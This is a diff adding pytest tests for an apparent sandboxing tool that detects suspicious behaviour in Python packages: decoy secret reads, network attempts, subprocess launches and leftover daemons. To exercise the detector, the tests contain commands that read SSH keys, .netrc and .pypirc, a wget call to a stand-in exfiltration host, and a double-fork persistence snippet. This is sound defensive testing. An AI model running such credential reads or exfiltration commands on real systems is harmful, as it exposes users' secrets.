@@ -1,0 +1,159 @@
+"""Behaviour evidence of one boxed step: decoy reads seen from the host (whoever reads), and
+the attempts the audit hooks record, through the real runner and real bubblewrap."""
+
+from __future__ import annotations
+
+import sys
+from pathlib import Path
+
+import pytest
+
+from pytest_spike._core import behaviour, runner, sandbox
+from pytest_spike.model import Severity
+
+pytestmark = pytest.mark.skipif(
+    not sandbox.status(sandbox.Policy()).boxed,
+    reason=f"no box here: {sandbox.status(sandbox.Policy()).reason}",
+)
+
+
+def boxed(code: str, stage: str = "import", **kwargs: object) -> runner.RunResult:
+    return runner.run([sys.executable, "-c", code], timeout=60, box=sandbox.Box(stage), **kwargs)  # type: ignore[arg-type]
+
+
+def test_a_decoy_read_by_c_code_is_seen_from_the_host() -> None:
+    # cat, started through a shell: no Python frame reads the file, the host still sees it.
+    done = runner.run(
+        ["/bin/sh", "-c", "cat ~/.ssh/id_rsa ~/.netrc >/dev/null"], timeout=60, box=sandbox.Box("readme")
+    )
+    assert done.ok, done.stderr
+    assert sorted(done.decoys_read) == [".netrc", ".ssh/id_rsa"]
+
+
+def test_a_step_that_reads_nothing_reads_no_decoy_and_tries_nothing() -> None:
+    done = boxed("import os, json; os.listdir(os.path.expanduser('~')); json.dumps({})")
+    assert done.ok, done.stderr
+    assert done.decoys_read == ()
+    assert done.behaviour is not None and done.behaviour.attempts == []
+    assert behaviour.summary([done.behaviour]) == "import: 0 attempts"
+
+
+def test_attempts_are_recorded_with_the_frame_that_made_them(tmp_path: Path) -> None:
+    module = tmp_path / "nosy.py"
+    module.write_text(
+        "import os, socket, subprocess, ctypes.util\n"
+        "def go():\n"
+        "    try:\n"
+        "        socket.create_connection(('127.0.0.1', 9), timeout=1)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    try:\n"
+        "        socket.getaddrinfo('spike-exfil.invalid', 443)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    subprocess.run(['uname', '-s'], stdout=subprocess.DEVNULL)\n"
+        "    os.system('wget -q http://spike-exfil.invalid/x')\n"
+        "    try:\n"
+        f"        open({str(tmp_path / 'planted.py')!r}, 'w')\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    open('/tmp/fine.txt', 'w').close()\n"
+    )
+    done = boxed("import nosy; nosy.go()", extra_env={"PYTHONPATH": str(tmp_path)})
+    assert done.ok, done.stderr
+    assert done.behaviour is not None
+    seen = {(a.kind, a.what): a for a in done.behaviour.attempts}
+    assert seen[("network", "127.0.0.1:9")].by == f"{module}:4"
+    assert ("network", "lookup spike-exfil.invalid") in seen
+    assert ("exec", "uname") in seen
+    assert seen[("exec", "/bin/sh")].command == "wget -q http://spike-exfil.invalid/x"
+    assert ("write", str(tmp_path / "planted.py")) in seen
+    assert ("write", "/tmp/fine.txt") not in seen  # the box's own /tmp
+    # Scored: the wget through a shell and the connect are high at import, uname is info.
+    scored = {(f.code, f.evidence["what"]): f.severity for f in behaviour.findings([done.behaviour])}
+    assert scored[("behaviour.exec", "/bin/sh")] is Severity.HIGH
+    assert scored[("behaviour.exec", "uname")] is Severity.INFO
+    assert scored[("behaviour.network", "127.0.0.1:9")] is Severity.HIGH
+    assert scored[("behaviour.writes", str(tmp_path / "planted.py"))] is Severity.HIGH
+    # In a README example the same connect is info: examples may want the network.
+    readme = behaviour.Behaviour("readme", attempts=done.behaviour.attempts)
+    assert {f.severity for f in behaviour.findings([readme]) if f.code == "behaviour.network"} == {
+        Severity.INFO
+    }
+
+
+def test_what_healthy_code_does_at_import_is_info_at_most() -> None:
+    # ctypes.util.find_library runs ldconfig (and maybe gcc); platform runs uname-like tools.
+    done = boxed("import ctypes.util, platform; ctypes.util.find_library('c'); platform.architecture()")
+    assert done.ok, done.stderr
+    assert done.behaviour is not None
+    assert {f.severity for f in behaviour.findings([done.behaviour])} <= {Severity.INFO}
+
+
+def test_a_daemon_left_running_is_persistence() -> None:
+    code = (
+        "import os, time\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n"
+        "        time.sleep(30)\n"
+        "    os._exit(0)\n"
+        "os.wait(); time.sleep(0.2)\n"
+    )
+    done = boxed(code)
+    assert done.ok and done.duration_s < 20, done.stderr
+    assert done.behaviour is not None
+    assert [a.kind for a in done.behaviour.attempts] == ["persistence"]
+    (finding,) = behaviour.findings([done.behaviour])
+    assert finding.code == "behaviour.persistence" and finding.severity is Severity.HIGH
+
+
+def test_the_environments_own_sitecustomize_still_runs(tmp_path: Path) -> None:
+    (tmp_path / "sitecustomize.py").write_text("import os\nos.environ['OWN_SITECUSTOMIZE'] = 'ran'\n")
+    done = boxed(
+        "import os, sys, sitecustomize; print(os.environ.get('OWN_SITECUSTOMIZE'), sitecustomize.__file__,"
+        " any('_boot' in p for p in sys.path))",
+        extra_env={"PYTHONPATH": str(tmp_path)},
+    )
+    assert done.ok, done.stderr
+    assert done.stdout.split() == ["ran", str(tmp_path / "sitecustomize.py"), "False"]
+
+
+def test_recording_collects_each_boxed_step_and_keeps_nested_steps_apart() -> None:
+    with behaviour.recording() as outer:
+        boxed("pass", stage="import")
+        with behaviour.recording() as inner:
+            runner.run(["/bin/sh", "-c", "cat ~/.pypirc"], timeout=60, box=sandbox.Box("install"))
+    assert [s.stage for s in outer] == ["import"]
+    assert [(s.stage, s.decoys_read) for s in inner] == [("install", [".pypirc"])]
+    assert behaviour.summary(inner) == "install: no network, secrets (~/.pypirc)"
+
+
+def test_the_summary_says_when_setup_code_ran() -> None:
+    built = behaviour.Behaviour("install", network=True, ran_setup=True)
+    assert behaviour.summary([built, behaviour.Behaviour("import")]) == (
+        "install: ran setup code, no network, no secrets; import: 0 attempts"
+    )
+    assert behaviour.Behaviour.from_dict(built.to_dict()) == built
+
+
+def test_a_tool_reading_its_own_configuration_is_info() -> None:
+    # git reads ~/.gitconfig on every call (setuptools-scm at build time, pytest-benchmark).
+    done = runner.run(
+        ["/bin/sh", "-c", "cat ~/.gitconfig >/dev/null"], timeout=60, box=sandbox.Box("upstream")
+    )
+    assert done.behaviour is not None and done.decoys_read == (".gitconfig",)
+    assert [f.severity for f in behaviour.findings([done.behaviour])] == [Severity.CRITICAL]
+    with_git = behaviour.Behaviour(
+        "install",
+        decoys_read=[".gitconfig"],
+        attempts=[behaviour.Attempt("exec", "git", command="git describe")],
+    )
+    secrets = [f for f in behaviour.findings([with_git]) if f.code == "behaviour.secrets"]
+    assert [f.severity for f in secrets] == [Severity.INFO] and "ran git" in secrets[0].message
+    # requests reads ~/.netrc for every request: in an upstream test that is info, at import not.
+    netrc = {
+        stage: behaviour.findings([behaviour.Behaviour(stage, decoys_read=[".netrc"])])[0].severity
+        for stage in ("upstream", "import")
+    }
+    assert netrc == {"upstream": Severity.INFO, "import": Severity.CRITICAL}
